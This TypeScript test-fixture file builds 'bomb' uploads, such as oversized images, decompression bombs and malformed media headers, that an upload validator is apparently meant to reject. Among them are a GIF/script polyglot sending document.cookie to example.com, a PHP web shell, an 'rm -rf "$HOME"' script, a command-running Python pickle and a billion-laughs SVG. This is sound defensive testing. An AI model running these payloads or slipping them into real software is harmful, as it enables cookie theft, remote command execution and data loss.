import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib'
import {
  makeAnimatedWebp,
  makeApngHeader,
  makeBmp,
  makeGif,
  makeJpeg,
  makeLosslessWebp,
  makeLossyWebp,
  makePng,
  makePngHeader,
  makeTiff,
  pngChunk,
} from './make-image.ts'
import { flacOf, glbOf, isoBox, mp3Of, mp4Of, oggOf, pngText } from './make-media.ts'

/** A file that is made to harm whoever opens it, or that is no medium at all. Nobody may take it. */
export interface Bomb {
  readonly name: string
  /** The parameter that it is sent for. */
  readonly field: 'picture' | 'film' | 'sound' | 'form'
  readonly make: () => Buffer
}

const mebibyte = 1024 * 1024
const zeros = (length: number): string => '\0'.repeat(length)
const latin1 = (text: string): Buffer => Buffer.from(text, 'latin1')
const hex = (text: string): Buffer => Buffer.from(text, 'hex')

function writing(bytes: Buffer, write: (bytes: Buffer) => unknown): Buffer {
  write(bytes)
  return bytes
}

/** A JPEG whose first frame claims this size. */
function jpegOfSize(width: number, height: number): Buffer {
  return writing(makeJpeg(16, 16), (bytes) => {
    const frame = bytes.indexOf(hex('ffc0'))
    bytes.writeUInt16BE(height, frame + 5)
    bytes.writeUInt16BE(width, frame + 7)
  })
}

/** A ZIP with one file of zeros. */
function zipOf(unpackedBytes: number): Buffer {
  const data = deflateRawSync(Buffer.alloc(unpackedBytes))
  const head = Buffer.alloc(30)
  head.write('PK\x03\x04\x14', 'latin1')
  head.writeUInt16LE(8, 8)
  head.writeUInt32LE(data.length, 18)
  head.writeUInt32LE(unpackedBytes, 22)
  return Buffer.concat([head, data])
}

const ebmlHead = hex('1a45dfa39f4286810142f7810142f2810442f381084282847765626d42878104428581021853806701ffffffffffffff')
const ftyp = isoBox('ftyp', latin1('isom'), Buffer.alloc(4), latin1('isom'))

const pictures: Readonly<Record<string, () => Buffer>> = {
  'PNG of 100000 × 100000': () => makePngHeader(100_000, 100_000),
  'PNG of the largest size there is': () => makePngHeader(0xffffffff, 0xffffffff),
  'PNG of one endless line': () => makePngHeader(0x7fffffff, 1),
  'APNG that says it has thousands of frames': () => makeApngHeader(64, 64, 5000),
  'APNG that has thousands of frames': () =>
    makePngHeader(64, 64, Buffer.concat(Array.from({ length: 3000 }, () => pngChunk('fcTL', Buffer.alloc(26))))),
  'GIF of 65535 × 65535': () => makeGif(65_535, 65_535),
  'GIF of 5000 frames': () => makeGif(64, 64, 5000),
  'GIF of a hundred large frames': () => makeGif(1000, 1000, 100),
  'GIF with a frame beyond its screen': () => makeGif(1, 1, 1, { width: 65_535, height: 65_535 }),
  'GIF of blocks without an end': () =>
    Buffer.concat([makeGif(4, 3).subarray(0, 19), Buffer.alloc(mebibyte, hex('21fe00'))]),
  'lossy WebP of 16383 × 16383': () => makeLossyWebp(16_383, 16_383),
  'lossless WebP of 16383 × 16383': () => makeLosslessWebp(16_383, 16_383),
  'animated WebP with an endless canvas': () => makeAnimatedWebp(0xffffff, 0xffffff, 1),
  'animated WebP of 5000 frames': () => makeAnimatedWebp(64, 64, 5000),
  'TIFF of 65535 × 4294967295': () => makeTiff(65_535, 0xffffffff, 'II'),
  'TIFF of 5000 pages': () => makeTiff(64, 64, 'MM', 5000),
  'TIFF whose pages go round': () =>
    writing(makeTiff(4, 3, 'II', 2), (bytes) => bytes.writeUInt32LE(8, bytes.length - 4)),
  'TIFF with a page of 65535 entries': () =>
    writing(Buffer.concat([makeTiff(4, 3, 'II'), Buffer.alloc(mebibyte)]), (bytes) => bytes.writeUInt16LE(0xffff, 8)),
  'TIFF that begins behind its end': () => hex('49492a00ffffff7f'),
  'BMP of 2147483647 × -2147483647': () => makeBmp(0x7fffffff, -0x7fffffff),
  'BMP of the least height there is': () => makeBmp(1, -0x80000000),
  'BMP of a negative width': () => makeBmp(-5, 5),
  'BMP without height': () => makeBmp(5, 0),
  'JPEG of 65535 × 65535': () => jpegOfSize(65_535, 65_535),
  'JPEG of nothing but fill bytes': () => Buffer.concat([hex('ffd8'), Buffer.alloc(mebibyte, 0xff)]),
  'JPEG of endless markers': () => Buffer.concat([hex('ffd8'), Buffer.alloc(mebibyte, hex('ffe10002'))]),
  'JPEG of markers without length': () => Buffer.concat([hex('ffd8'), Buffer.alloc(mebibyte, hex('ffe10000'))]),
  'JPEG without an end': () => makeJpeg(64, 64).subarray(0, -2),
  'PNG cut off in its header': () => makePng(64, 64).subarray(0, 20),
  'PNG cut off before its end': () => makePng(64, 64).subarray(0, -12),
  'PNG without data': () => Buffer.concat([makePng(4, 4).subarray(0, 33), pngChunk('IEND', Buffer.alloc(0))]),
  'PNG with a chunk of 4 GiB': () => Buffer.concat([makePng(4, 4).subarray(0, 33), hex('ffffffff'), latin1('IDAT')]),
  'GIF that is a header': () => makeGif(64, 64).subarray(0, 13),
  'WebP cut off': () => makeLossyWebp(64, 64).subarray(0, -1),
  'zero bytes': () => Buffer.alloc(0),
  'a mebibyte of zeros': () => Buffer.alloc(mebibyte),
  'PNG with a text of 64 MiB': () => makePngHeader(4, 3, pngText.compressed(['prompt', zeros(64 * mebibyte)])),
  'PNG with an international text of 16 MiB': () =>
    makePngHeader(4, 3, pngText.internationalCompressed(['prompt', zeros(16 * mebibyte)])),
  'PNG with a colour profile of 64 MiB': () =>
    makePngHeader(4, 3, pngChunk('iCCP', Buffer.concat([latin1('p\0\0'), deflateSync(Buffer.alloc(64 * mebibyte))]))),
  'PNG with a thousand packed texts': () => {
    const text = pngText.compressed(['prompt', zeros(mebibyte)])
    return makePngHeader(4, 3, Buffer.concat(Array.from({ length: 1000 }, () => text)))
  },
  'GIF that is a script': () => latin1('GIF89a/*\x01\x01\x01*/=1;fetch("//example.com/?"+document.cookie)//'),
  'PNG that is a page': () => latin1('\x89PNG\r\n\x1a\n<!doctype html><script>alert(1)</script>'),
  'JPEG that is a script': () => latin1('\xff\xd8\xff\xe0<?php system($_GET["c"]); ?>'),
  'BMP that is a page': () => latin1('BM<html><body onload=alert(1)>'),
  'SVG with a script': () => latin1('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
  'SVG that laughs': () =>
    latin1(
      `<?xml version="1.0"?><!DOCTYPE l [${Array.from({ length: 9 }, (_, level) => `<!ENTITY l${level + 1} "${`&l${level};`.repeat(10)}">`).join('')}]><svg>&l9;</svg>`,
    ),
  'a page': () => latin1('<!doctype html><script>alert(1)</script>'),
  PDF: () => latin1('%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj'),
  'ZIP of 16 MiB of zeros': () => zipOf(16 * mebibyte),
  'gzip of 64 MiB of zeros': () => gzipSync(Buffer.alloc(64 * mebibyte)),
  'program for Windows': () => Buffer.concat([latin1('MZ\x90\0\x03'), Buffer.alloc(200)]),
  'program for Linux': () => Buffer.concat([latin1('\x7fELF\x02\x01\x01'), Buffer.alloc(200)]),
  'shell script': () => latin1('#!/bin/sh\nrm -rf "$HOME"\n'),
  'Python pickle': () => latin1('\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c\x02id\x85R.'),
}

const films: Readonly<Record<string, () => Buffer>> = {
  'MP4 with a box of 2^63 bytes': () => Buffer.concat([ftyp, hex('00000001'), latin1('moov'), hex('7fffffffffffffff')]),
  'MP4 with a description longer than the file': () =>
    Buffer.concat([ftyp, hex('7fffffff'), latin1('moov'), Buffer.alloc(99)]),
  'MP4 of empty boxes': () => Buffer.concat([ftyp, Buffer.alloc(mebibyte, hex('0000000866726565'))]),
  'MP4 of boxes smaller than their heads': () => Buffer.concat([ftyp, Buffer.alloc(mebibyte, hex('0000000266726565'))]),
  'MP4 cut off in its data': () => Buffer.concat([mp4Of([], 'iso'), hex('7fffffff'), latin1('mdat')]),
  'Matroska with a header of 2^56 bytes': () => Buffer.concat([hex('1a45dfa301fffffffffffffe'), ebmlHead.subarray(5)]),
  'Matroska with a segment of 2^55 bytes': () =>
    Buffer.concat([ebmlHead.subarray(0, -8), hex('017fffffffffffff'), Buffer.alloc(99)]),
  'Matroska with tracks of 2^55 bytes': () => Buffer.concat([ebmlHead, hex('1654ae6b017fffffffffffff')]),
  'Matroska of empty elements': () => Buffer.concat([ebmlHead, Buffer.alloc(mebibyte, hex('ec80'))]),
  'AVI with a list of 4 GiB': () => latin1('RIFF\xff\xff\xff\xffAVI LIST\xff\xff\xff\xffhdrlavih'),
}

const sounds: Readonly<Record<string, () => Buffer>> = {
  'MP3 with a tag of 256 MiB': () => Buffer.concat([latin1('ID3\x04\0\0\x7f\x7f\x7f\x7f'), Buffer.alloc(1000)]),
  'MP3 of tags': () => Buffer.alloc(mebibyte, latin1('ID3\x04\0\0\0\0\0\0')),
  'MP3 without a sound': () =>
    Buffer.concat([mp3Of([], { version: 4, encoding: 3 }).subarray(0, -4), Buffer.alloc(70_000)]),
  'FLAC with a block of 16 MiB': () => latin1('fLaC\0\0\0\x22' + zeros(34) + '\x84\xff\xff\xff'),
  'FLAC of empty blocks': () => Buffer.concat([flacOf([]).subarray(0, 42), Buffer.alloc(mebibyte, hex('01000000'))]),
  'Ogg whose page is cut off': () => writing(oggOf([]).subarray(0, 60), (bytes) => bytes.writeUInt8(255, 26)),
  'WAV with a format of 4 GiB': () => latin1('RIFF\xff\xff\xff\xffWAVEfmt \xff\xff\xff\xff\x01\0'),
}

const forms: Readonly<Record<string, () => Buffer>> = {
  'glTF that is deep': () => latin1(`{"asset":{"version":"2.0"},"nodes":${'[{"a":'.repeat(100_000)}`),
  'glTF with a text without an end': () =>
    latin1(`{"asset":{"version":"2.0"},"buffers":[{"uri":"${'A'.repeat(mebibyte)}`),
  'glTF with a page behind it': () => latin1('{"asset":{"version":"2.0"}}<script>alert(1)</script>'),
  'GLB of 4 GiB': () => writing(glbOf({}), (bytes) => bytes.writeUInt32LE(0xffffffff, 8)),
  'GLB with JSON of 4 GiB': () => writing(glbOf({}), (bytes) => bytes.writeUInt32LE(0xffffffff, 12)),
  'STL of four billion facets': () => writing(Buffer.alloc(1000), (bytes) => bytes.writeUInt32LE(0xffffffff, 80)),
  'OBJ that is a page': () => latin1('v 0 0 0\nv 1 0 0\nv 0 1 0\nf 1 2 3\n<script>alert(1)</script>\n'),
  'OBJ of empty lines': () => Buffer.alloc(mebibyte, '\n'),
  'SPZ of 64 MiB of zeros': () => gzipSync(Buffer.alloc(64 * mebibyte)),
}

export const bombs: readonly Bomb[] = [
  ...bombsFor('picture', pictures),
  ...bombsFor('film', films),
  ...bombsFor('sound', sounds),
  ...bombsFor('form', forms),
]

function bombsFor(field: Bomb['field'], made: Readonly<Record<string, () => Buffer>>): Bomb[] {
  return Object.entries(made).map(([name, make]) => ({ name, field, make }))
}
